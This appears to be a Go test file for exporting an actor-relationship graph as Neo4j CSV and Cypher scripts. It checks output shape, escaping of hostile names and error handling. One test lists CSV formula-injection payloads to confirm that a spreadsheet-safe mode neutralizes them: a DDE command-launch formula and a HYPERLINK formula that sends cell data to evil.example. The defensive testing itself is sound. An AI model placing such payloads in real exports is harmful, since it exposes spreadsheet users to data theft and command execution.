package actorgraph

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// neo4jGraph is a small graph with every kind of value the exports write.
func neo4jGraph() *Graph {
	return buildGraph([]*Actor{
		{ID: "donald-trump", Name: "Donald Trump", Kind: Person, Aliases: []string{"Trump", "The Donald; 45"},
			Roles: []Role{{Title: "president", Of: "united-states"}}, Mentions: []Mention{{Span: Span{0, 5}}, {Span: Span{9, 14}}}},
		{ID: "kremlin", Name: "Kremlin", Kind: Organization, Country: "russia"},
		{ID: "x", Name: "O'Neil \"X\"\nLine"},
	}, []*Relation{
		{Type: MeetsWith, Source: "kremlin", Target: "donald-trump", Modality: Planned, Evidence: []Evidence{
			{Doc: "a.txt", Text: "Trump will meet, the Kremlin said."}, {Doc: "b.txt", Text: "Talks; later."}}},
		{Type: Opposes, Source: "x", Target: "kremlin", Modality: Negated},
	})
}

func writeNeo4j(t *testing.T, g *Graph) (nodes, rels []byte) {
	t.Helper()
	var n, r bytes.Buffer
	if err := g.WriteNeo4jCSV(&n, &r); err != nil {
		t.Fatalf("WriteNeo4jCSV: %v", err)
	}
	return n.Bytes(), r.Bytes()
}

func TestWriteNeo4jCSVShape(t *testing.T) {
	nodes, rels := writeNeo4j(t, neo4jGraph())
	const wantNodes = `id:ID(Actor),name,kind,country,aliases:string[],roles:string[],mentions:int,:LABEL
donald-trump,Donald Trump,person,,"The Donald, 45;Trump",president of united-states,2,Actor;Person
kremlin,Kremlin,organization,russia,,,0,Actor;Organization
x,"O'Neil ""X"" Line",,,,,0,Actor
`
	const wantRels = `:START_ID(Actor),:END_ID(Actor),:TYPE,modality,symmetric:boolean,evidence:int,text,docs:string[],first_seen,last_seen
donald-trump,kremlin,MEETS_WITH,planned,true,2,"Trump will meet, the Kremlin said.",a.txt;b.txt,,
x,kremlin,OPPOSES,negated,false,0,,,,
`
	if diff := cmp.Diff(wantNodes, string(nodes)); diff != "" {
		t.Errorf("nodes.csv (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(wantRels, string(rels)); diff != "" {
		t.Errorf("relationships.csv (-want +got):\n%s", diff)
	}
}

// writeNeo4jWith is writeNeo4j with options.
func writeNeo4jWith(t *testing.T, g *Graph, opts Neo4jCSVOptions) (nodes, rels string) {
	t.Helper()
	var n, r bytes.Buffer
	if err := g.WriteNeo4jCSVWith(&n, &r, opts); err != nil {
		t.Fatalf("WriteNeo4jCSVWith(%+v): %v", opts, err)
	}
	return n.String(), r.String()
}

// TestWriteNeo4jCSVWith checks that the zero options write what WriteNeo4jCSV writes, and
// that SpreadsheetSafe changes nothing in files without formula cells.
func TestWriteNeo4jCSVWith(t *testing.T) {
	for name, g := range map[string]*Graph{"neo4j": neo4jGraph(), "test": testGraph(), "empty": buildGraph(nil, nil)} {
		wantNodes, wantRels := writeNeo4j(t, g)
		for _, opts := range []Neo4jCSVOptions{{}, {SpreadsheetSafe: true}} {
			nodes, rels := writeNeo4jWith(t, g, opts)
			if diff := cmp.Diff(string(wantNodes), nodes); diff != "" {
				t.Errorf("%s graph, %+v: nodes.csv (-WriteNeo4jCSV +WriteNeo4jCSVWith):\n%s", name, opts, diff)
			}
			if diff := cmp.Diff(string(wantRels), rels); diff != "" {
				t.Errorf("%s graph, %+v: relationships.csv (-WriteNeo4jCSV +WriteNeo4jCSVWith):\n%s", name, opts, diff)
			}
		}
	}
}

// TestWriteNeo4jCSVSpreadsheetSafe puts a value in every text column of both files and
// checks how each mode writes it: as it is by default, behind a quote when spreadsheets
// would take it for a formula in SpreadsheetSafe mode.
func TestWriteNeo4jCSVSpreadsheetSafe(t *testing.T) {
	tests := []struct {
		name, value string
		quoted      bool // whether SpreadsheetSafe puts a quote before it
	}{
		{"formula", "=1+2", true},
		{"DDE", "=cmd|' /C calc'!A0", true},
		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, true},
		{"plus", "+1-2", true},
		{"minus", "-2+3", true},
		{"at", "@SUM(A1:A9)", true},
		{"plain", "Donald Trump", false},
		{"equals inside", "a=b", false},
		{"quote first", "'=quoted", false},
		{"space first", " =1", false}, // not in OWASP's list
		{"tab first", "\t=1", false},  // csvValue makes the tab a space
		{"carriage return first", "\r=1", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := tt.value
			g := buildGraph([]*Actor{
				{ID: v, Name: v, Kind: Person, Country: v, Aliases: []string{v}, Roles: []Role{{Title: v}}},
				{ID: "b", Name: "B"},
			}, []*Relation{{Type: Supports, Source: v, Target: "b", Modality: Actual, Evidence: []Evidence{{Doc: v, Text: v}}}})
			cell := csvValue(v)
			for _, opts := range []Neo4jCSVOptions{{}, {SpreadsheetSafe: true}} {
				want := cell
				if opts.SpreadsheetSafe && tt.quoted {
					want = "'" + cell
				}
				nodes, rels := writeNeo4jWith(t, g, opts)
				records := map[string][][]string{}
				for file, out := range map[string]string{"nodes": nodes, "relationships": rels} {
					r, err := csv.NewReader(strings.NewReader(out)).ReadAll()
					if err != nil {
						t.Fatalf("%s: %v", file, err)
					}
					records[file] = r
				}
				wantNodes := [][]string{
					{"id:ID(Actor)", "name", "kind", "country", "aliases:string[]", "roles:string[]", "mentions:int", ":LABEL"},
					{want, want, "person", want, want, want, "0", "Actor;Person"},
					{"b", "B", "", "", "", "", "0", "Actor"},
				}
				wantRels := [][]string{
					{":START_ID(Actor)", ":END_ID(Actor)", ":TYPE", "modality", "symmetric:boolean", "evidence:int", "text", "docs:string[]", "first_seen", "last_seen"},
					{want, "b", "SUPPORTS", "actual", "false", "1", want, want, "", ""},
				}
				if v > "b" { // actors and relations are sorted by ID
					wantNodes[1], wantNodes[2] = wantNodes[2], wantNodes[1]
				}
				if diff := cmp.Diff(wantNodes, records["nodes"]); diff != "" {
					t.Errorf("%+v: nodes.csv (-want +got):\n%s", opts, diff)
				}
				if diff := cmp.Diff(wantRels, records["relationships"]); diff != "" {
					t.Errorf("%+v: relationships.csv (-want +got):\n%s", opts, diff)
				}
			}
		})
	}
}

func TestNeo4jType(t *testing.T) {
	seen := map[string]bool{}
	for _, rt := range RelationTypes() {
		n := Neo4jType(rt)
		if strings.Trim(n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ_") != "" || seen[n] {
			t.Errorf("Neo4jType(%s) = %q: not a distinct plain relationship type", rt, n)
		}
		seen[n] = true
	}
	if got := Neo4jType(SpokespersonFor); got != "SPOKESPERSON_FOR" {
		t.Errorf("Neo4jType(spokesperson-for) = %q", got)
	}
}

// TestWriteNeo4jCSVHostile checks that every file has one record a line, as the importer
// needs without --multiline-fields, that fields read back as written less line breaks,
// and that arrays split back into their elements.
func TestWriteNeo4jCSVHostile(t *testing.T) {
	for i, name := range hostileNames {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			g := buildGraph([]*Actor{
				{ID: "a" + name, Name: name, Kind: Person, Aliases: []string{name, "x"}, Roles: []Role{{Title: name, Of: "b"}}},
				{ID: "b", Name: "B", Kind: Group},
			}, []*Relation{{Type: MemberOf, Source: "a" + name, Target: "b", Modality: Actual,
				Evidence: []Evidence{{Doc: name, Text: name}}}})
			nodes, rels := writeNeo4j(t, g)
			for file, out := range map[string][]byte{"nodes": nodes, "relationships": rels} {
				if !utf8.Valid(out) {
					t.Errorf("%s: invalid UTF-8", file)
				}
				records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
				if err != nil {
					t.Fatalf("%s: %v", file, err)
				}
				if lines := bytes.Count(out, []byte("\n")); lines != len(records) {
					t.Errorf("%s: %d lines for %d records: a field spans lines", file, lines, len(records))
				}
				if len(records) != 3 && file == "nodes" || len(records) != 2 && file == "relationships" {
					t.Errorf("%s: %d records", file, len(records))
				}
			}
			records, _ := csv.NewReader(bytes.NewReader(nodes)).ReadAll()
			a := records[1]
			if a[0] != csvValue("a"+name) || a[1] != csvValue(name) {
				t.Errorf("node read back as %q", a)
			}
			if got := strings.Split(a[4], ";"); len(got) != 2 {
				t.Errorf("aliases %q split into %d elements, want 2", a[4], len(got))
			}
			records, _ = csv.NewReader(bytes.NewReader(rels)).ReadAll()
			if r := records[1]; r[0] != csvValue("a"+name) || r[1] != "b" || r[2] != "MEMBER_OF" {
				t.Errorf("relationship read back as %q", r)
			}
		})
	}
}

func TestWriteCypherShape(t *testing.T) {
	var buf bytes.Buffer
	if err := neo4jGraph().WriteCypher(&buf); err != nil {
		t.Fatal(err)
	}
	const want = `// actorgraph: 3 actors, 2 relations
CREATE CONSTRAINT actor_id IF NOT EXISTS FOR (a:Actor) REQUIRE a.id IS UNIQUE;
MERGE (a:Actor {id: 'donald-trump'}) SET a:Person SET a.name = 'Donald Trump', a.kind = 'person', a.country = null, a.aliases = ['The Donald; 45', 'Trump'], a.roles = ['president of united-states'], a.mentions = 2;
MERGE (a:Actor {id: 'kremlin'}) SET a:Organization SET a.name = 'Kremlin', a.kind = 'organization', a.country = 'russia', a.aliases = [], a.roles = [], a.mentions = 0;
MERGE (a:Actor {id: 'x'}) SET a.name = 'O\'Neil "X"\nLine', a.kind = null, a.country = null, a.aliases = [], a.roles = [], a.mentions = 0;
MATCH (a:Actor {id: 'donald-trump'}), (b:Actor {id: 'kremlin'}) MERGE (a)-[r:MEETS_WITH {modality: 'planned'}]->(b) SET r.symmetric = true, r.evidence = 2, r.text = ['Trump will meet, the Kremlin said.', 'Talks; later.'], r.docs = ['a.txt', 'b.txt'], r.first_seen = null, r.last_seen = null;
MATCH (a:Actor {id: 'x'}), (b:Actor {id: 'kremlin'}) MERGE (a)-[r:OPPOSES {modality: 'negated'}]->(b) SET r.symmetric = false, r.evidence = 0, r.text = [], r.docs = [], r.first_seen = null, r.last_seen = null;
`
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("WriteCypher (-want +got):\n%s", diff)
	}
}

// unquoteCypher reads the single-quoted string literal at the start of s and returns its
// value and the rest of s.
func unquoteCypher(t *testing.T, s string) (string, string) {
	t.Helper()
	var sb strings.Builder
	for i := 1; i < len(s); i++ {
		switch c := s[i]; c {
		case '\'':
			return sb.String(), s[i+1:]
		case '\\':
			i++
			switch s[i] {
			case '\\', '\'', '"':
				sb.WriteByte(s[i])
			case 'n':
				sb.WriteByte('\n')
			case 'r':
				sb.WriteByte('\r')
			case 't':
				sb.WriteByte('\t')
			case 'u':
				n, err := strconv.ParseUint(s[i+1:i+5], 16, 32)
				if err != nil {
					t.Fatalf("bad escape in %q", s)
				}
				sb.WriteRune(rune(n))
				i += 4
			default:
				t.Fatalf("unknown escape \\%c in %q", s[i], s)
			}
		case '\n':
			t.Fatalf("raw line break in a string literal")
		default:
			sb.WriteByte(c)
		}
	}
	t.Fatalf("unterminated string literal in %q", s)
	return "", ""
}

// cypherSkeleton replaces every string literal of a statement by '?' and returns the
// literals' values.
func cypherSkeleton(t *testing.T, stmt string) (string, []string) {
	t.Helper()
	var sk strings.Builder
	var lits []string
	for {
		i := strings.IndexByte(stmt, '\'')
		if i < 0 {
			sk.WriteString(stmt)
			return sk.String(), lits
		}
		sk.WriteString(stmt[:i] + "?")
		var lit string
		lit, stmt = unquoteCypher(t, stmt[i:])
		lits = append(lits, lit)
	}
}

// TestWriteCypherHostile checks that whatever the names, the script has the statements
// of a benign graph of the same shape, and its literals read back as the names.
func TestWriteCypherHostile(t *testing.T) {
	build := func(name string) *Graph {
		return buildGraph([]*Actor{
			{ID: "a" + name, Name: name, Kind: Person, Aliases: []string{name}, Roles: []Role{{Title: name, Of: "b"}}},
			{ID: "b", Name: "B", Kind: Group},
		}, []*Relation{{Type: MemberOf, Source: "a" + name, Target: "b", Modality: Actual,
			Evidence: []Evidence{{Doc: name, Text: name}}}})
	}
	script := func(g *Graph) string {
		var buf bytes.Buffer
		if err := g.WriteCypher(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	benign := strings.Split(script(build("Name")), "\n")
	for i, name := range hostileNames {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			out := script(build(name))
			if !utf8.ValidString(out) {
				t.Errorf("invalid UTF-8")
			}
			lines := strings.Split(out, "\n")
			if len(lines) != len(benign) {
				t.Fatalf("%d lines, want %d:\n%s", len(lines), len(benign), out)
			}
			valid := strings.ToValidUTF8(name, "\uFFFD")
			for j := range lines {
				got, lits := cypherSkeleton(t, lines[j])
				want, _ := cypherSkeleton(t, benign[j])
				if got != want && (name != "" || j != 4) { // an empty evidence text and doc are left out
					t.Errorf("line %d is\n%s\nwant the shape of\n%s", j, lines[j], benign[j])
				}
				if j == 2 && (lits[0] != "a"+valid || lits[1] != valid) {
					t.Errorf("actor literals read back as %q", lits[:2])
				}
			}
		})
	}
}

func TestNeo4jErrors(t *testing.T) {
	bad := buildGraph([]*Actor{{ID: "a"}}, []*Relation{{Type: Supports, Source: "a", Target: "ghost", Modality: Actual}})
	var n, r bytes.Buffer
	if err := bad.WriteNeo4jCSV(&n, &r); err == nil || n.Len()+r.Len() != 0 {
		t.Errorf("WriteNeo4jCSV of a bad graph = %v, wrote %d bytes", err, n.Len()+r.Len())
	}
	if err := bad.WriteCypher(&n); err == nil || n.Len() != 0 {
		t.Errorf("WriteCypher of a bad graph = %v, wrote %d bytes", err, n.Len())
	}
	for _, g := range []*Graph{nil, {}} {
		nodes, rels := writeNeo4j(t, g)
		if bytes.Count(nodes, []byte("\n")) != 1 || bytes.Count(rels, []byte("\n")) != 1 {
			t.Errorf("empty graph: %q %q", nodes, rels)
		}
	}
	g := testGraph()
	nodes, rels := writeNeo4j(t, g)
	var ok bytes.Buffer
	for _, after := range []int{0, len(nodes) / 2} {
		if err := g.WriteNeo4jCSV(&failWriter{after: after}, &ok); !errors.Is(err, errWrite) {
			t.Errorf("nodes writer failing after %d bytes: %v", after, err)
		}
	}
	for _, after := range []int{0, len(rels) / 2} {
		if err := g.WriteNeo4jCSV(&ok, &failWriter{after: after}); !errors.Is(err, errWrite) {
			t.Errorf("relationships writer failing after %d bytes: %v", after, err)
		}
		if err := g.WriteCypher(&failWriter{after: after}); !errors.Is(err, errWrite) {
			t.Errorf("Cypher writer failing after %d bytes: %v", after, err)
		}
	}
}
